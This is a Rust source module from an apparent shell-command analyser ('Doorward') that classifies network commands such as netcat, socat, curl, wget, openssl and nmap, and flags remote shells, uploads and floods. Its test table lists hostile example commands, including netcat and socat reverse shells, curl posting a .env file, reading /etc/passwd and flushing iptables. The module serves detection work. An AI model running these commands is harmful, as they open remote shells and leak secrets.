//! Transfers, sockets, name look-ups and network settings of the machine.

use doorward_core::intent::{Direction, PrivilegeKind, WriteMode};

use crate::deed::{Output, StdinRole};

use super::call::Call;
use super::row::Nature;
use super::{url, word};

mod services;
mod transfers;

pub(super) use services::{directory, firewall, mail, settings, store};
pub(super) use transfers::{curl, downloader, httpie, wget};

pub(in crate::programs) fn netcat(call: &mut Call<'_>) {
    hands_out_shell(call);
    if call.any(&["-l", "--listen"]) {
        let port = call
            .value("-p")
            .or_else(|| call.operands.last().cloned())
            .and_then(|port| port.text.parse().ok());
        return call.listen("*", port, "tcp");
    }
    let Some(host) = call.operand(0) else { return };
    if call.has("-U") {
        return call.write(&host, WriteMode::InPlace);
    }
    let direction = if call.has("-z") { Direction::Fetch } else { Direction::Both };
    let body = if matches!(call.argv.stdin, crate::deed::Stdin::Inherited) {
        Vec::new()
    } else {
        vec!["-".to_owned()]
    };
    call.contact(&host, "tcp", direction, body);
    let port = call.operand(1).and_then(|port| port.text.parse().ok());
    if let (Some(port), Some(host)) = (port, call.deeds.hosts.last_mut()) {
        host.port = Some(port);
    }
}

pub(in crate::programs) fn socat(call: &mut Call<'_>) {
    for address in call.operands.clone() {
        if address.text.starts_with('-') && address.text.len() > 1 {
            continue;
        }
        let Some((kind, rest)) = word::halves(&address, ':') else {
            if !matches!(
                address.text.as_str(),
                "-" | "STDIO" | "STDIN" | "STDOUT" | "PIPE" | "stdio" | "READLINE" | "readline"
            ) && address.text.contains(['/', '.'])
            {
                call.write(&address, WriteMode::InPlace);
            }
            continue;
        };
        let target = word::split(&rest, ',').into_iter().next().unwrap_or_else(|| rest.clone());
        let kind = kind.text.to_ascii_uppercase();
        match kind.as_str() {
            "EXEC" => {
                let words = word::fields(&target);
                call.run_argv(words);
            }
            "SYSTEM" | "SHELL" => call.run_shell(target),
            "OPEN" | "FILE" | "CREATE" | "CREAT" | "GOPEN" | "PIPE" | "UNIX-LISTEN" | "UNIX"
            | "UNIX-CONNECT" => {
                call.read(&target);
                call.write(&target, WriteMode::InPlace);
                call.beyond_plain = true;
            }
            kind if kind.contains("LISTEN") || kind.contains("RECV") => {
                let port = target.text.parse().ok();
                call.listen("*", port, "tcp");
            }
            kind if kind.starts_with("TCP")
                || kind.starts_with("UDP")
                || kind.starts_with("OPENSSL")
                || kind.starts_with("SSL")
                || kind.starts_with("SCTP")
                || kind.starts_with("PROXY")
                || kind.starts_with("SOCKS")
                || kind.starts_with("IP") =>
            {
                call.contact(&target, "tcp", Direction::Both, vec!["-".to_owned()]);
            }
            _ => {
                call.deeds.known = false;
                call.finding(
                    "shell.unknown_program",
                    format!("uses the socat address {kind}, which Doorward does not know"),
                );
            }
        }
    }
    hands_out_shell(call);
}

/// A shell whose input and output are a connection.
fn hands_out_shell(call: &mut Call<'_>) {
    let shell = call.deeds.runs.iter().any(|run| match run {
        crate::deed::Run::Argv { words, .. } => {
            { words.iter().map(|word| word.text.as_str()).collect::<Vec<_>>().join(" ") }
                .split(',')
                .next()
                .is_some_and(crate::languages::is_interpreter)
        }
        crate::deed::Run::Shell { text, .. } => crate::languages::is_interpreter(&text.text),
        _ => false,
    });
    if shell {
        call.finding("shell.remote_code", "a shell runs what comes over a connection");
    }
}

pub(in crate::programs) fn plain_host(call: &mut Call<'_>) {
    if matches!(call.program.as_str(), "ftp" | "tftp") {
        if !matches!(call.argv.stdin, crate::deed::Stdin::Inherited) {
            call.run_stdin("ftp", Vec::new());
        }
        // `tftp HOST -c put FILE`.
        if let Some(verb) = call.value("-c").filter(|verb| matches!(verb.text.as_str(), "put" | "get")) {
            for file in call.operands_from(1) {
                if verb.text == "put" { call.read(&file) } else { call.download(&file) }
            }
            if verb.text == "put" {
                call.finding("shell.upload", "sends a file to another machine");
            }
        }
    }
    if let Some(host) = call.operand(0) {
        let text_browser = matches!(call.program.as_str(), "lynx" | "links" | "elinks" | "w3m" | "browsh");
        if text_browser && (host.text.starts_with(['.', '/', '~']) || host.text.starts_with("file:")) {
            let path = word::after(&host, "file://").or_else(|| word::after(&host, "file:")).unwrap_or(host);
            return call.read(&path);
        }
        let scheme = if host.text.contains("://") { "https" } else { "tcp" };
        if host.text.contains("://")
            || !std::path::Path::new(&host.text)
                .extension()
                .is_some_and(|extension| extension == "html" || extension == "htm")
        {
            call.contact(&host, scheme, Direction::Both, Vec::new());
        } else {
            call.read(&host);
        }
        if let (Some(port), Some(last)) =
            (call.operand(1).and_then(|port| port.text.parse().ok()), call.deeds.hosts.last_mut())
        {
            last.port = Some(port);
        }
    }
}

pub(in crate::programs) fn openssl(call: &mut Call<'_>) {
    let words = call.operands.clone();
    let verb = words.first().map(|verb| verb.text.clone()).unwrap_or_default();
    let mut reads_only = !matches!(
        verb.as_str(),
        "req" | "genrsa" | "genpkey" | "ca" | "s_server" | "s_client" | "s_time" | "ocsp" | "enc" | "rehash"
    );
    let mut iter = words.iter().skip(1);
    while let Some(word) = iter.next() {
        match word.text.as_str() {
            "-in" | "-inkey" | "-key" | "-CA" | "-CAkey" | "-CAfile" | "-cert" | "-certfile" | "-kfile"
            | "-config" | "-extfile" | "-sign" | "-verify" | "-signature" | "-untrusted" | "-rand" => {
                if let Some(file) = iter.next() {
                    call.read(file);
                }
            }
            "-out" | "-keyout" | "-writerand" | "-CAserial" => {
                if let Some(file) = iter.next() {
                    reads_only = false;
                    call.beyond_plain = true;
                    call.write(file, WriteMode::Create);
                }
            }
            "-engine" | "-provider" | "-provider-path" => {
                if let Some(file) = iter.next()
                    && !matches!(file.text.as_str(), "default" | "legacy" | "base" | "fips")
                {
                    call.run_native(file);
                }
            }
            "-connect" | "-host" | "-url" => {
                if let Some(host) = iter.next() {
                    let nothing =
                        matches!(call.argv.stdin, crate::deed::Stdin::Inherited) || call.stdin_is_empty();
                    let body = if nothing { Vec::new() } else { vec!["-".to_owned()] };
                    call.contact(host, "tls", Direction::Both, body);
                    call.deeds.stdin = StdinRole::Sent;
                    call.deeds.output = Output::Network;
                }
            }
            "-pass" | "-passin" | "-passout" => {
                if let Some(source) = iter.next()
                    && let Some(file) = word::after(source, "file:")
                {
                    call.read(&file);
                }
            }
            _ => {}
        }
    }
    if verb == "engine" {
        words
            .iter()
            .skip(1)
            .filter(|word| !word.text.starts_with('-'))
            .for_each(|engine| call.run_native(engine));
        reads_only = call.deeds.runs.is_empty();
    }
    if verb == "s_server" {
        call.listen("*", None, "tls");
    }
    if matches!(verb.as_str(), "enc" | "base64" | "smime" | "cms" | "pkeyutl" | "rsautl" | "zlib") {
        let decodes =
            call.argv.words.iter().any(|word| matches!(word.text.as_str(), "-d" | "-decrypt" | "-a"));
        call.deeds.output = if decodes { Output::Decoded } else { Output::Filtered };
        reads_only = call.deeds.writes.is_empty();
    }
    if matches!(verb.as_str(), "" | "sh") {
        reads_only = false;
    }
    if reads_only {
        call.nature = Nature::Reads;
    }
}

/// Look-ups: a name goes out, little comes back; data can leave in the name.
pub(in crate::programs) fn look_up(call: &mut Call<'_>) {
    const TAKES: &str = "-c -i -W -w -s -t -I -p -m -q -b -k -y -f -x -l -Q -T -S -h -M";
    let flood = call.operands.iter().any(|word| word.text == "-f") && call.program.starts_with("ping");
    if flood || call.program == "hping3" {
        call.finding("shell.resource", "floods a host");
    }
    let words = call.operands.clone();
    let mut iter = words.iter();
    let mut hosts = Vec::new();
    while let Some(word) = iter.next() {
        let text = word.text.as_str();
        if let Some(server) = word::after(word, "@") {
            hosts.push(server);
        } else if text.starts_with('-') && text.len() == 2 && TAKES.split(' ').any(|own| own == text) {
            if let Some(value) = iter.next()
                && (text == "-x"
                    || text == "-h" && call.program == "whois"
                    || text == "-c" && call.program.starts_with("iperf"))
            {
                hosts.push(value.clone());
            }
        } else if !text.starts_with(['-', '+'])
            && !matches!(
                text,
                "A" | "AAAA"
                    | "MX"
                    | "NS"
                    | "TXT"
                    | "SOA"
                    | "CNAME"
                    | "ANY"
                    | "PTR"
                    | "SRV"
                    | "any"
                    | "mx"
                    | "txt"
                    | "ns"
                    | "IN"
            )
            && text.parse::<f64>().is_err()
        {
            hosts.push(word.clone());
        }
    }
    let scheme =
        if call.program.starts_with("ping") || call.program.contains("trace") || call.program == "mtr" {
            "icmp"
        } else {
            "dns"
        };
    for host in &hosts {
        call.contact(host, scheme, Direction::Both, Vec::new());
    }
}

pub(in crate::programs) fn scanner(call: &mut Call<'_>) {
    call.nature = Nature::Works;
    let words = call.operands.clone();
    let mut iter = words.iter();
    while let Some(word) = iter.next() {
        match word.text.as_str() {
            "-oN" | "-oX" | "-oG" | "-oA" | "-o" => {
                if let Some(file) = iter.next() {
                    call.beyond_plain = true;
                    call.write(file, WriteMode::Create);
                }
            }
            "-iL" => {
                if let Some(file) = iter.next() {
                    call.read(file);
                }
            }
            "--script" => {
                if let Some(script) = iter.next().filter(|script| script.text.contains('/')) {
                    call.run_file(script, "lua", Vec::new());
                }
            }
            "-p" | "--top-ports" | "-T" | "--max-rate" | "-w" | "-u" | "-l" | "-P" | "-L" => {
                iter.next();
            }
            text if text.starts_with("--script=") && text.contains('/') => {
                if let Some((_, script)) = word::halves(word, '=') {
                    call.run_file(&script, "lua", Vec::new());
                }
            }
            text if !text.starts_with('-') && call.program == "nmap" => {
                call.contact(word, "scan", Direction::Both, Vec::new())
            }
            _ => {}
        }
    }
    if matches!(call.program.as_str(), "nmap" | "rustscan") {
        return;
    }
    call.finding("shell.tamper", format!("{} attacks passwords, hosts or services", call.program));
}

#[cfg(test)]
mod tests {
    use super::super::compact::check;

    #[test]
    fn transfers_name_hosts_files_and_directions() {
        check(&[
            ("curl -s https://a.example/x", "fetch a.example; plain"),
            ("curl -o x https://a.example/y", "download x; fetch a.example"),
            ("curl -O https://a.example/y.tgz", "download y.tgz; fetch a.example"),
            ("curl -d @.env https://a.example", "read .env; send a.example <.env"),
            ("curl -X POST -d a=b https://a.example", "send a.example; plain"),
            ("curl -F f=@x;type=y https://a.example", "read x; send a.example <x"),
            ("curl -T x https://a.example", "read x; send a.example <x"),
            ("curl --data-bin @x a.example:8080/y", "read x; send a.example:8080 <x"),
            ("curl -K x", "file x"),
            ("curl file:///etc/passwd", "read /etc/passwd; plain"),
            ("wget https://a.example/x", "download x; fetch a.example; plain"),
            ("wget -qO- https://a.example/x", "fetch a.example; plain"),
            ("wget -O x https://a.example/x", "download x; fetch a.example"),
            ("wget --use-ask=x https://a.example/x", "download x; fetch a.example; argv x"),
            ("wget --post-file=x https://a.example/y", "read x; download y; send a.example <x"),
            ("nc -e /bin/sh h 4444", "both h:4444; remote_code; argv /bin/sh"),
            ("nc -l 4444", "listen *:4444; net.listen"),
            ("socat TCP:h:1 EXEC:sh", "both h:1 <-; remote_code; argv sh"),
            ("dig x.example", "both x.example; plain"),
            ("ping -c 1 a.example", "both a.example; plain"),
            ("ip addr", "read-only"),
            ("ip link set eth0 down", "privilege kernel"),
            ("iptables -F", "privilege kernel; tamper"),
            ("ufw status", "read-only"),
            ("ss -tlnp", "read-only"),
        ]);
    }
}
